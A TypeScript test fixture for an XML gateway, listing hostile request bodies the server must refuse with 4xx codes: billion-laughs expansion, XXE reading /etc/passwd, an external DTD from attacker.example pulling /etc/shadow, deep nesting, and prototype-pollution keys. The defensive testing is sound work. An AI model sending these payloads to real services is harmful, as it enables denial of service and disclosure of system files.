/**
 * Hostile request bodies (issue #2, #13 item 6): each must be refused as a 4xx with bounded
 * memory. Shared by the behaviour test (test/core/wire/hostile-xml.test.ts) and the
 * benchmark that times the refusals (bench/hostile.ts): timing is never asserted in a test.
 */
import { MAX_BODY_BYTES } from '../../functions/core/wire/read-body.js';
import { renderXml } from '../../functions/core/wire/render-xml.js';
import { exampleCard } from '../core/fixtures.js';

export const NS = 'urn:kz:ncc-gateway:v1';
const encoder = new TextEncoder();

export function xml(text: string): Uint8Array {
  return encoder.encode(text);
}

const billionLaughs = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  '<!ENTITY lol "lol">',
  ...Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
  ),
  ']>',
  `<incidentCard xmlns="${NS}"><note>&lol9;</note></incidentCard>`,
].join('\n');

const bigEntity = 'A'.repeat(50_000);
const manyBigEntityRefs = `<!DOCTYPE x [<!ENTITY big "${bigEntity}">]><incidentCard xmlns="${NS}"><note>${'&big;'.repeat(40_000)}</note></incidentCard>`;

/** Each attack: the body, and the 4xx status and code it must be refused with. */
export const HOSTILE_ATTACKS: ReadonlyArray<{
  name: string;
  bytes: Uint8Array;
  contentType?: string;
  status: 400 | 413;
  code: string;
}> = [
  { name: 'billion laughs', bytes: xml(billionLaughs), status: 400, code: 'xml_doctype_forbidden' },
  {
    name: 'external entity (XXE) to file:///etc/passwd',
    bytes: xml(
      `<?xml version="1.0"?><!DOCTYPE incidentCard [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><incidentCard xmlns="${NS}"><note>&xxe;</note></incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'external DTD and parameter entity',
    bytes: xml(
      `<!DOCTYPE incidentCard SYSTEM "http://attacker.example/evil.dtd" [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]><incidentCard xmlns="${NS}"/>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'one large entity referenced 40 000 times',
    bytes: xml(manyBigEntityRefs),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'entity declarations in a DOCTYPE inside the root element',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><!DOCTYPE x [<!ENTITY a "injected">]><note>&a;</note></incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'billion laughs inside the root element',
    bytes: xml(
      `${billionLaughs.replace(/^<\?xml[^>]*>\n/, `<incidentCard xmlns="${NS}">`)}</incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a comment',
    bytes: xml(`<!-- harmless --><!DOCTYPE x [<!ENTITY a "b">]><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a processing instruction, comments and whitespace',
    bytes: xml(
      `<?xml version="1.0"?>\n<?xml-stylesheet href="a.xsl"?>\n<!-- a --> <!-- <incidentCard> -->\n\t<!DOCTYPE x [<!ENTITY a "b">]><incidentCard xmlns="${NS}"/>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a byte-order mark, in lower case',
    bytes: xml(`\uFEFF<!doctype x><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'one million numeric character references (over 256 KiB)',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><note>${'&#65;'.repeat(1_000_000)}</note></incidentCard>`,
    ),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: '10 000-deep nesting',
    bytes: xml(
      `<incidentCard xmlns="${NS}">${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</incidentCard>`,
    ),
    status: 400,
    code: 'xml_too_deep',
  },
  {
    name: '25 000 sibling elements',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>${'<a/>'.repeat(25_000)}</note></incidentCard>`),
    status: 400,
    code: 'xml_too_many_elements',
  },
  {
    name: 'a body over 256 KiB',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><note>${'x'.repeat(MAX_BODY_BYTES)}</note></incidentCard>`,
    ),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: '<__proto__> element',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><__proto__><polluted>yes</polluted></__proto__></incidentCard>`,
    ),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: '<constructor><prototype> elements',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><constructor><prototype><polluted>yes</polluted></prototype></constructor></incidentCard>`,
    ),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'JSON {"__proto__": {...}}',
    bytes: encoder.encode('{"__proto__": {"polluted": "yes"}, "note": "x"}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'JSON __proto__ nested in details',
    bytes: encoder.encode('{"details": {"iocs": [{"__proto__": {"polluted": "yes"}}]}}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'JSON {"constructor": {"prototype": {...}}}',
    bytes: encoder.encode('{"constructor": {"prototype": {"polluted": "yes"}}}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'mismatched tags',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>x</description></incidentCard>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'an unclosed root',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>x</note>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'two roots of the same name',
    bytes: xml(`<incidentCard xmlns="${NS}"/><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'two roots of different names',
    bytes: xml(`<incidentCard xmlns="${NS}"/><nccNotice xmlns="${NS}"/>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'no namespace',
    bytes: xml('<incidentCard><note>x</note></incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'a wrong namespace',
    bytes: xml('<incidentCard xmlns="urn:kz:ncc-gateway:v2"><note>x</note></incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'a prefix bound to a wrong namespace',
    bytes: xml('<g:incidentCard xmlns:g="urn:attacker"><g:note>x</g:note></g:incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'an undeclared entity',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>&foo;</note></incidentCard>`),
    status: 400,
    code: 'xml_undeclared_entity',
  },
  {
    name: 'an undeclared entity in an attribute',
    bytes: xml(`<incidentCard xmlns="${NS}" a="&nbsp;"><note>x</note></incidentCard>`),
    status: 400,
    code: 'xml_undeclared_entity',
  },
  {
    name: 'a character reference beyond U+10FFFF',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>&#x110000;</note></incidentCard>`),
    status: 400,
    code: 'xml_invalid_reference',
  },
];

/** A valid card carrying ~40 000 character references spread over its text fields. */
export function cardWithReferences(): { text: string; references: number } {
  const ref = (count: number) => '&#x41;'.repeat(count);
  const iocs = Array.from(
    { length: 8 },
    () => `<ioc><type>other</type><value>${ref(2000)}</value></ioc>`,
  ).join('');
  const text = renderXml('incidentCard', exampleCard())
    .replace('<description>', `<description>${ref(7900)}`)
    .replace('<actionsTaken>', `<actionsTaken>${ref(7900)}`)
    .replace('<note/>', `<note>${ref(8000)}</note>`)
    .replace('<iocs>', `<iocs>${iocs}`);
  return { text, references: 7900 + 7900 + 8000 + 8 * 2000 };
}
